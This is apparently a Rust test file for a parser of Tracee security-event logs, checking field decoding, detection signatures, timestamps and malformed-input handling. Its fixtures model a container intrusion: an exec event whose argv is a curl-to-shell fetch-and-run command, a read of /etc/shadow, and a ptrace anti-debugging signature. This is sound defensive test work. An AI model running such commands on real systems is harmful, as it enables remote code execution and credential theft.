//! In-repo fixtures following the v0.19 field definitions (`pkg/events/core.go@v0.19.0`
//! as summarized in the research notes): the events the public corpus lacks.

use std::io::Cursor;

use tripline_tracee::{Clock, Error, Reader, Record, Settings, SkipKind, TraceEvent, from_str};

const EVENTS: &str = include_str!("fixtures/v0.19_events.jsonl");
const RELATIVE: &str = include_str!("fixtures/v0.19_relative-time.jsonl");
const MIXED: &str = include_str!("fixtures/mixed_container-log.txt");
const V1: &str = include_str!("fixtures/v1beta1_marshaller.jsonl");
const CID: &str = "9f3c1e7a2b4d6f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7081";
const T: i64 = 1_700_000_000_000_000_000;

fn nth(n: usize) -> TraceEvent<'static> {
    match from_str(EVENTS.lines().nth(n).unwrap()).unwrap() {
        Record::Trace(e) => e,
        other => panic!("not a trace event: {other:?}"),
    }
}

#[test]
fn sched_process_exec_v019() {
    let e = nth(0);
    assert_eq!(e.event_name, "sched_process_exec");
    assert_eq!(e.time_ns(&Settings::default()), Some(T + 1));
    assert_eq!((e.process_id, e.host_process_id), (Some(1), Some(24112)));
    assert_eq!(e.container_id(), Some(CID));
    assert_eq!(e.container_image(), Some("docker.io/library/nginx:1.25"));
    assert_eq!(e.pod_namespace(), Some("shop"));
    assert_eq!(e.executable_path(), Some("/usr/bin/dash"));
    assert_eq!(e.arg_str("cmdpath").as_deref(), Some("/bin/sh"));
    assert_eq!(e.arg_str("pathname").as_deref(), Some("/usr/bin/dash"));
    assert_eq!(e.arg_i64("dev"), Some(2049));
    assert_eq!(e.arg_i64("inode_mode"), Some(33261));
    assert_eq!(
        e.arg_str_list("argv").unwrap(),
        ["sh", "-c", "curl -s http://10.0.0.5/x | sh"]
    );
    assert_eq!(e.arg_str("stdin_type").as_deref(), Some("S_IFIFO"));
    assert_eq!(e.arg_i64("invoked_from_kernel"), Some(0));
    assert_eq!(e.args_num, Some(15));
    assert_eq!(e.process_entity_id, Some(2_146_028_341));
    assert_eq!(e.origin(), tripline_tracee::Origin::Container);
    assert!(!e.is_signature());
}

#[test]
fn security_file_open_v019() {
    let e = nth(1);
    assert_eq!(e.event_name, "security_file_open");
    assert_eq!(e.event_id, Some(730));
    assert_eq!(e.timestamp, Some(T + 2));
    assert_eq!(e.host_process_id, Some(24112));
    assert_eq!(e.container_id(), Some(CID));
    assert_eq!(e.arg_str("pathname").as_deref(), Some("/etc/shadow"));
    // parse-arguments: declared int, JSON string.
    let flags = e.arg("flags").unwrap();
    assert_eq!(flags.type_name, "int");
    assert_eq!(flags.as_str().as_deref(), Some("O_RDONLY|O_CLOEXEC"));
    assert_eq!(flags.as_i64(), None);
    assert_eq!(
        e.arg_str("syscall_pathname").as_deref(),
        Some("/etc/shadow")
    );
    assert_eq!(e.syscall.as_deref(), Some("openat"));
}

#[test]
fn security_socket_connect_v019() {
    let e = nth(2);
    assert_eq!(e.event_name, "security_socket_connect");
    assert_eq!(e.timestamp, Some(T + 3));
    assert_eq!(e.process_name, "curl");
    assert_eq!(e.arg_i64("sockfd"), Some(3));
    let a = e.arg_sockaddr("remote_addr").unwrap();
    assert_eq!(a.family, "AF_INET");
    assert_eq!(a.ip, Some("10.0.0.5".parse().unwrap()));
    assert_eq!(a.port, Some(80));
}

#[test]
fn container_create_v019() {
    let e = nth(3);
    assert_eq!(e.event_name, "container_create");
    assert_eq!(
        e.container_id(),
        None,
        "reported by the runtime on the host"
    );
    assert_eq!(e.arg_str("container_id").as_deref(), Some(CID));
    assert_eq!(e.arg_str("runtime").as_deref(), Some("containerd"));
    assert_eq!(e.arg_str("container_name").as_deref(), Some("web"));
    assert_eq!(e.arg_bool("pod_sandbox"), Some(false));
    assert_eq!(e.arg_i64("ctime"), Some(1_699_999_999_000_000_000));
}

#[test]
fn signature_with_triggered_by() {
    let e = nth(4);
    assert_eq!(e.event_name, "anti_debugging");
    assert!(e.is_signature());
    let p = e.properties().unwrap();
    assert_eq!(p.signature_id().as_deref(), Some("TRC-102"));
    assert_eq!(p.severity(), Some(1));
    assert_eq!(p.external_id().as_deref(), Some("T1622"));
    let t = e.triggered_by().unwrap().unwrap();
    assert_eq!(t.event_name, "ptrace");
    assert_eq!(t.event_id, Some(101));
    assert_eq!(t.arg_str("request").as_deref(), Some("PTRACE_TRACEME"));
    assert_eq!(t.arg_i64("pid"), Some(0));
    assert!(t.metadata.is_none());
    // The trigger keeps the signature event's process and container context.
    assert_eq!(t.host_process_id, e.host_process_id);
    assert_eq!(t.container_id(), Some(CID));
    assert_eq!(t.timestamp, Some(T + 5));
    assert!(!t.is_signature());
}

#[test]
fn signature_null_properties_and_data() {
    let e = nth(5);
    let p = e.properties().unwrap();
    assert_eq!(p.signature_id().as_deref(), Some("TRC-1013"));
    assert_eq!(p.category(), None);
    assert_eq!(p.external_id(), None);
    assert!(p.raw().get("Technique").is_some(), "null keys are present");
    assert_eq!(e.arg_str("ip").as_deref(), Some("10.96.0.1"));
    let t = e.triggered_by().unwrap().unwrap();
    assert_eq!(t.event_name, "security_socket_connect");
    assert_eq!(t.arg_sockaddr("remote_addr").unwrap().port, Some(443));
    let e = nth(6);
    let t = e.triggered_by().unwrap().unwrap();
    assert_eq!(t.arg_bytes("bytes").unwrap()[..4], *b"\x7fELF");
}

#[test]
fn malformed_triggered_by_is_an_error() {
    let line =
        r#"{"eventName":"x","args":[{"name":"triggeredBy","type":"unknown","value":"nope"}]}"#;
    let Record::Trace(e) = from_str(line).unwrap() else {
        panic!()
    };
    assert!(matches!(e.triggered_by(), Err(Error::Arg { .. })));
}

#[test]
fn other_v019_events() {
    assert_eq!(nth(7).arg_i64("exit_code"), Some(256));
    assert_eq!(nth(8).arg_i64("child_pid"), Some(24150));
    assert_eq!(
        nth(9).arg_str("pathname").as_deref(),
        Some("/var/log/nginx/access.log")
    );
    assert_eq!(
        nth(10).arg_str("new_path").as_deref(),
        Some("/usr/local/bin/a")
    );
    assert_eq!(nth(11).arg_str("dev_name").as_deref(), Some("/dev/sda1"));
    assert_eq!(nth(12).arg_str("request").as_deref(), Some("PTRACE_ATTACH"));
    assert_eq!(nth(12).return_value, Some(-1));
    let bind = nth(13).arg_sockaddr("local_addr").unwrap();
    assert_eq!(bind.path.as_deref(), Some("/run/app.sock"));
    let acc = nth(14).arg_sockaddr("local_addr").unwrap();
    assert_eq!(
        (acc.ip, acc.port),
        (Some("::1".parse().unwrap()), Some(8080))
    );
    assert_eq!(nth(16).arg_bytes("bytes").unwrap(), b"#!/bin/sh\n");
}

#[test]
fn relative_time_detected_and_offset() {
    let mut r = Reader::new(Cursor::new(RELATIVE));
    let defaults = Settings::default();
    let mut n = 0;
    while let Some(rec) = r.next_record() {
        let rec = rec.unwrap();
        let e = rec.as_trace().unwrap();
        assert!(e.is_relative_time(&defaults));
        assert_eq!(e.time_ns(&defaults), None, "no offset, no absolute time");
        n += 1;
    }
    assert_eq!((n, r.counts().relative_time), (2, 2));
    let mut s = Settings::default();
    s.epoch_offset_ns = Some(T);
    let Record::Trace(e) = from_str(RELATIVE.lines().next().unwrap()).unwrap() else {
        panic!()
    };
    assert_eq!(e.time_ns(&s), Some(T + 5_123_456_789));
    // Declared epoch: the value is taken as is.
    s.clock = Clock::Epoch;
    assert_eq!(e.time_ns(&s), Some(5_123_456_789));
}

#[test]
fn mixed_stream_counts_every_line() {
    let mut r = Reader::new(Cursor::new(MIXED));
    let mut ok = Vec::new();
    let mut errs = Vec::new();
    while let Some(rec) = r.next_record() {
        match rec {
            Ok(rec) => ok.push((rec.event_name().to_owned(), rec.location().0)),
            Err(e) => errs.push((e.line(), e)),
        }
    }
    assert_eq!(
        ok,
        [
            ("sched_process_exec".to_owned(), 3),
            ("security_socket_connect".to_owned(), 6),
            ("anti_debugging".to_owned(), 10)
        ]
    );
    assert_eq!(errs.len(), 3);
    assert!(matches!(errs[0], (7, Error::Json { .. })));
    assert!(matches!(errs[1], (8, Error::NotJson { .. })));
    assert!(matches!(errs[2], (9, Error::NotAnEvent { .. })));
    let c = r.counts();
    assert_eq!(c.lines, 10);
    assert_eq!(c.skipped(SkipKind::LoggerJson), 2);
    assert_eq!(c.skipped(SkipKind::LoggerText), 1);
    assert_eq!(c.skipped(SkipKind::Blank), 1);
    assert!(c.balanced());
    // Offsets point at the line starts.
    let off = MIXED
        .lines()
        .take(2)
        .map(|l| l.len() as u64 + 1)
        .sum::<u64>();
    let mut r = Reader::new(Cursor::new(MIXED));
    let first = r.next_record().unwrap().unwrap();
    assert_eq!(first.location(), (3, off));
}

#[test]
fn limits_are_enforced_and_counted() {
    let mut s = Settings::default();
    s.max_line_bytes = 100;
    s.max_args = 3;
    let input = format!(
        "{}\n{}\n",
        EVENTS.lines().next().unwrap(),
        "{\"eventName\":\"x\",\"args\":[]}"
    );
    let mut r = Reader::with_settings(Cursor::new(input.clone()), s.clone());
    let e = r.next_record().unwrap().unwrap_err();
    assert!(matches!(e, Error::TooLong { line: 1, .. }));
    assert!(e.to_string().len() < 300);
    assert!(r.next_record().unwrap().is_ok());
    assert_eq!(r.counts().too_long, 1);
    s.max_line_bytes = 1 << 20;
    let mut r = Reader::with_settings(Cursor::new(input), s);
    assert!(matches!(
        r.next_record().unwrap(),
        Err(Error::TooManyArgs { count: 15, .. })
    ));
    assert_eq!(r.counts().too_many_args, 1);
}

#[test]
fn unterminated_document_is_one_error() {
    let mut r = Reader::new(Cursor::new("{\n  \"eventName\": \"x\",\n"));
    assert!(matches!(
        r.next_record(),
        Some(Err(Error::Unterminated { lines: 2, .. }))
    ));
    assert!(r.next_record().is_none());
    assert!(r.counts().balanced());
}

#[test]
fn bom_and_crlf_are_tolerated() {
    let good = EVENTS.lines().next().unwrap();
    let input = format!("\u{feff}{good}\r\n{good}\r\n");
    let mut r = Reader::new(Cursor::new(input));
    let first = r.next_record().unwrap().unwrap();
    assert_eq!(first.raw(), good);
    assert_eq!(
        r.next_record().unwrap().unwrap().location(),
        (2, good.len() as u64 + 5)
    );
    assert!(r.next_record().is_none());
}

#[test]
fn broken_documents_do_not_swallow_records() {
    let good = EVENTS.lines().next().unwrap();
    // A lone `{` line followed by compact events: one error, then every event.
    let input = format!("{{\n{good}\n{good}\n");
    let mut r = Reader::new(Cursor::new(input));
    assert!(matches!(
        r.next_record(),
        Some(Err(Error::Json { line: 1, .. }))
    ));
    assert!(r.next_record().unwrap().is_ok());
    assert!(r.next_record().unwrap().is_ok());
    assert!(r.next_record().is_none());
    // A pretty-printed document cut short, then a compact event.
    let input = format!("{{\n  \"eventName\": \"x\",\n  \"args\": [\n{good}\n");
    let mut r = Reader::new(Cursor::new(input));
    assert!(matches!(
        r.next_record(),
        Some(Err(Error::Unterminated {
            line: 1,
            lines: 3,
            ..
        }))
    ));
    let rec = r.next_record().unwrap().unwrap();
    assert_eq!(rec.location().0, 4);
    assert!(r.counts().balanced());
}

#[test]
fn v1beta1_marshaller_shape() {
    let mut lines = V1.lines();
    let Record::V1(e) = from_str(lines.next().unwrap()).unwrap() else {
        panic!()
    };
    assert_eq!(e.name, "security_socket_connect");
    assert_eq!(e.id_num(), Some(1031));
    assert_eq!(e.time_ns(), Some(1_763_633_730_123_456_789));
    assert_eq!(
        (e.pid(), e.host_pid(), e.parent_pid()),
        (Some(7), Some(24112), Some(1))
    );
    assert_eq!(e.container_id().as_deref(), Some(CID));
    assert_eq!(
        e.container_image().as_deref(),
        Some("docker.io/library/nginx:1.25")
    );
    assert_eq!(e.pod_namespace().as_deref(), Some("shop"));
    assert_eq!(e.data_i64("sockfd"), Some(3));
    let Record::V1(sig) = from_str(lines.next().unwrap()).unwrap() else {
        panic!()
    };
    let t = sig.threat.as_ref().unwrap();
    assert_eq!(t.severity_num(), Some(1));
    assert_eq!(t.technique_id().as_deref(), Some("T1622"));
    assert_eq!(t.tactic().as_deref(), Some("Defense Evasion"));
}
